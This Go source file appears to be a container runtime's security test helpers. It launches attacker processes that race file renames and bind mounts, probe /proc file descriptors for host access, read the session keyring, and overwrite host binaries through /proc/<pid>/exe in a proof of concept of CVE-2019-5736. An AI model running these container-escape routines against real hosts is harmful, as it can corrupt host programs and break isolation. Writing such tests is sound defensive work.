package security

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// attacks are what an attacker's process does, by its first argument. Each
// returns what is printed at the end.
var attacks = map[string]func(args []string) string{
	"attack-exchange": exchange,
	"attack-mount":    remount,
	"attack-programs": overwrite,
	"attack-files":    reach,
	"attack-keyring":  keyring,
}

// exchange swaps two names until its input ends.
func exchange(args []string) string {
	swaps := 0
	for stopped := untilInputEnds(); !stopped(); swaps++ {
		if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
			return err.Error()
		}
	}
	return strconv.Itoa(swaps)
}

// remount puts a file over another and takes it away, until its input ends.
func remount(args []string) string {
	times := 0
	for stopped := untilInputEnds(); !stopped(); times++ {
		if err := unix.Mount(args[0], args[1], "", unix.MS_BIND, ""); err != nil {
			return err.Error()
		}
		if err := unix.Unmount(args[1], unix.MNT_DETACH); err != nil {
			return err.Error()
		}
	}
	return strconv.Itoa(times)
}

// untilInputEnds tells whether standard input has ended.
func untilInputEnds() func() bool {
	fds := []unix.PollFd{{Fd: 0, Events: unix.POLLIN}}
	return func() bool {
		n, _ := unix.Poll(fds, 0)
		return n > 0
	}
}

// overwrite looks, until its time is over, at every process that it can see for
// a program which is none of its root file system's, holds on to that, and
// tries to write to it. CVE-2019-5736.
func overwrite(args []string) string {
	var own unix.Stat_t
	if err := unix.Stat("/", &own); err != nil {
		return err.Error()
	}
	held, written := map[uint64]int{}, 0
	for stopped := untilInputEnds(); !stopped(); {
		hold(held, own.Dev)
		for _, fd := range held {
			written += try(fd)
		}
	}
	return fmt.Sprintf("held %d written %d", len(held), written)
}

// hold opens the programs of all processes.
func hold(held map[uint64]int, own uint64) {
	for pid := 1; pid < 64; pid++ {
		fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err != nil || st.Dev == own || held[st.Ino] != 0 {
			unix.Close(fd)
			continue
		}
		held[st.Ino] = fd
	}
}

// try writes to a program.
func try(fd int) int {
	w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return 0
	}
	defer unix.Close(w)
	if n, err := unix.Write(w, []byte("#!/bin/false\n")); err != nil || n <= 0 {
		return 0
	}
	return 1
}

// reach looks, until its time is over, through the open files of every process
// that it can see for a proc of the host, and in that for a file.
func reach(args []string) string {
	reached := 0
	for stopped := untilInputEnds(); !stopped(); {
		for pid := 2; pid < 64; pid++ {
			for fd := range 16 {
				var st unix.Stat_t
				if unix.Stat(fmt.Sprintf("/proc/%d/fd/%d/%s", pid, fd, args[0]), &st) == nil {
					reached++
				}
			}
		}
	}
	return fmt.Sprintf("reached %d", reached)
}

// keyring describes the session keyring.
func keyring([]string) string {
	id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	if err != nil {
		return err.Error()
	}
	text, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, id)
	return fmt.Sprint(id, " ", text, " ", err)
}

// attacker is one that runs beside the runtime.
type attacker struct {
	*bundle
	cmd   *exec.Cmd
	out   bytes.Buffer
	input *os.File
}

// attack starts an attacker on the host, as a container that shares the
// directory would be one.
func (b *bundle) attack(args ...string) *attacker {
	b.Helper()
	r, w, err := os.Pipe()
	b.must(err)
	defer r.Close()
	a := &attacker{bundle: b, cmd: exec.Command("/proc/self/exe", args...), input: w}
	a.cmd.Stdin, a.cmd.Stdout, a.cmd.Stderr = r, &a.out, os.Stderr
	b.must(a.cmd.Start())
	return a
}

// stop ends the attack, which must have been one.
func (a *attacker) stop() {
	a.Helper()
	a.input.Close()
	a.must(a.cmd.Wait())
	if n, err := strconv.Atoi(strings.TrimSpace(a.out.String())); err != nil || n == 0 {
		a.Errorf("the attacker did nothing: %s", a.out.String())
	}
}
